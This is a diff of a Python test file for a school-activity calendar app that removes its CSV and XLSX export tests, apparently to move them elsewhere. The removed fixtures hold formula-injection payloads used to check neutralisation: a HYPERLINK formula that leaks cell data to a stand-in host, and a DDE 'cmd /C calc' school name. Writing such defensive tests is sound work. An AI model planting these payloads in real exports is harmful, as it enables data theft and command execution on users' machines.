@@ -1,23 +1,20 @@
-"""The country calendars: filters, keyset pages, the month view, exports and iCal feeds."""
+"""The country calendars: filters, keyset pages, the month view and iCal feeds (the exports:
+:mod:`tests.activities.test_calendar_exports`)."""
 
 from __future__ import annotations
 
-import csv
 import html
-import io
 import random
 import re
 from datetime import UTC, datetime, timedelta
 
 import pytest
 from icalendar import Calendar
-from openpyxl import load_workbook
 from sqlalchemy import text
 
 from app.activities.enums import ActivityStatus, ActivityType, Visibility
 from app.activities.models import ActivityLanguage
 from app.core.enums import Mode
-from app.core.exports import neutralise
 from app.geography.models import Region
 from app.schools.enums import SchoolStatus
 
@@ -74,25 +71,6 @@ def month_cells(body: str) -> dict[int, list[str]]:
         for classes, day, cell in cells
         if "other-month" not in classes
     }
-
-
-def read_csv(response) -> list[list[str]]:
-    assert response.status_code == 200
-    assert response.mimetype == "text/csv"
-    raw = response.data  # reads the whole stream, which closes it
-    assert raw.startswith("\ufeff".encode())
-    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
-
-
-def read_xlsx(response) -> list[tuple]:
-    assert response.status_code == 200
-    assert response.mimetype == (
-        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
-    )
-    workbook = load_workbook(io.BytesIO(response.data))
-    rows = list(workbook.worksheets[0].iter_rows(values_only=True))
-    workbook.close()
-    return rows
 
 
 def read_feed(response) -> Calendar:
@@ -453,151 +431,6 @@ def test_the_month_view_defaults_to_this_month(client):
     response = client.get("/calendar/TR/month", headers={"Accept-Language": "en"})
     assert response.status_code == 200
     assert str(datetime.now(UTC).year) in response.get_data(as_text=True)
-
-
-# Exports -------------------------------------------------------------------------
-
-ENGLISH_HEADERS = [
-    "Date",
-    "Start",
-    "End",
-    "Type",
-    "Title",
-    "School",
-    "Region",
-    "Country",
-    "How people take part",
-    "Pillars",
-    "Languages",
-    "Status",
-    "Teachers",
-    "School leaders",
-    "Students",
-    "Parents",
-]
-
-DANGEROUS_TITLES = [
-    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
-    "+SUM(1,2)",
-    "-2+3",
-    "@SUM(A1:A2)",
-    "\tTabbed title",
-    "\rCarriage return",
-]
-
-
-@pytest.fixture
-def exported(make, istanbul):
-    """One held activity with participants, one ordinary and the dangerous ones."""
-    make.activity(
-        istanbul,
-        starts_at=at(2, 1, 7, 0),
-        title="Held workshop",
-        status=ActivityStatus.HELD,
-        participants_teachers=12,
-        participants_leaders=2,
-        participants_students=40,
-        participants_parents=0,
-        languages=[ActivityLanguage(language="tr")],
-    )
-    for number, title in enumerate(DANGEROUS_TITLES):
-        make.activity(istanbul, starts_at=at(2, 2 + number), title=title)
-    make.activity(istanbul, starts_at=at(2, 20), title="Harmless = title")
-    evil_school = make.school("TR", name="=cmd|' /C calc'!A0")
-    make.activity(evil_school, starts_at=at(2, 21), title="From the evil school")
-
-
-@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
-def test_exports_have_english_headers_by_default(client, exported, fmt):
-    response = client.get(f"/calendar/TR/export.{fmt}", headers={"Accept-Language": "en"})
-    rows = read_csv(response) if fmt == "csv" else read_xlsx(response)
-    assert list(rows[0]) == ENGLISH_HEADERS
-    disposition = response.headers["Content-Disposition"]
-    assert disposition.startswith('attachment; filename="activities-TR-')
-    assert disposition.endswith(f'.{fmt}"')
-
-
-@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
-def test_exports_have_headers_in_the_readers_language(client, exported, fmt):
-    response = client.get(f"/calendar/TR/export.{fmt}", headers={"Accept-Language": "nb"})
-    rows = read_csv(response) if fmt == "csv" else read_xlsx(response)
-    headers = list(rows[0])
-    assert headers[12:16] == ["Lærere", "Skoleledere", "Elever", "Foreldre"]
-    assert "Teachers" not in headers
-    held = next(row for row in rows if row[4] == "Held workshop")
-    assert held[0] == f"01.02.{YEAR}"  # Norwegian short date of 10:00 in Istanbul
-    assert held[1] == "10:00"
-    assert held[3] == "Åpen dag"
-
-
-@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
-def test_exports_neutralise_formulas(client, exported, fmt):
-    response = client.get(f"/calendar/TR/export.{fmt}")
-    rows = read_csv(response) if fmt == "csv" else read_xlsx(response)
-    titles = [row[4] for row in rows[1:]]
-    for title in DANGEROUS_TITLES:
-        if fmt == "xlsx":
-            title = title.replace("\r", "\n")  # XML keeps no carriage returns in text
-        assert "'" + title in titles
-        assert title not in titles
-    assert "Harmless = title" in titles
-    evil = next(row for row in rows if row[4] == "From the evil school")
-    assert evil[5] == "'=cmd|' /C calc'!A0"
-
-
-def test_xlsx_cells_are_plain_values_never_formulas(client, exported):
-    response = client.get("/calendar/TR/export.xlsx")
-    workbook = load_workbook(io.BytesIO(response.data))
-    sheet = workbook.worksheets[0]
-    cells = [cell for row in sheet.iter_rows() for cell in row]
-    workbook.close()
-    assert cells
-    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
-    held = next(row for row in read_xlsx(response) if row[4] == "Held workshop")
-    assert held[12:16] == (12, 2, 40, 0)  # numbers stay numbers
-
-
-def test_csv_keeps_participant_numbers(client, exported):
-    rows = read_csv(client.get("/calendar/TR/export.csv"))
-    held = next(row for row in rows if row[4] == "Held workshop")
-    assert held[12:16] == ["12", "2", "40", "0"]
-    planned = next(row for row in rows if row[4] == "Harmless = title")
-    assert planned[12:16] == ["", "", "", ""]
-
-
-def test_exports_apply_the_filters(client, exported, make, ankara):
-    make.activity(ankara, starts_at=at(2, 1), title="Ankara only", type=ActivityType.INFO_SESSION)
-    rows = read_csv(client.get("/calendar/TR/export.csv?region=TR-06"))
-    assert [row[4] for row in rows[1:]] == ["Ankara only"]
-    rows = read_csv(client.get("/calendar/TR/export.csv?type=info_session"))
-    assert [row[4] for row in rows[1:]] == ["Ankara only"]
-
-
-@pytest.mark.parametrize(
-    ("value", "expected"),
-    [
-        ("=1+1", "'=1+1"),
-        ("+1", "'+1"),
-        ("-1", "'-1"),
-        ("@SUM(A1)", "'@SUM(A1)"),
-        ("\tx", "'\tx"),
-        ("\rx", "'\rx"),
-        ("=", "'="),
-        ("'=already quoted", "'=already quoted"),
-        ("a=b", "a=b"),
-        (" =1", " =1"),
-        ("\n=1", "\n=1"),
-        ("", ""),
-        ("Plain text", "Plain text"),
-        (-1, -1),
-        (12, 12),
-        (1.5, 1.5),
-        (None, None),
-    ],
-)
-def test_neutralise(value, expected):
-    assert neutralise(value) == expected
-    assert type(neutralise(value)) is type(expected)
 
 
 # iCalendar feeds -------------------------------------------------------------------
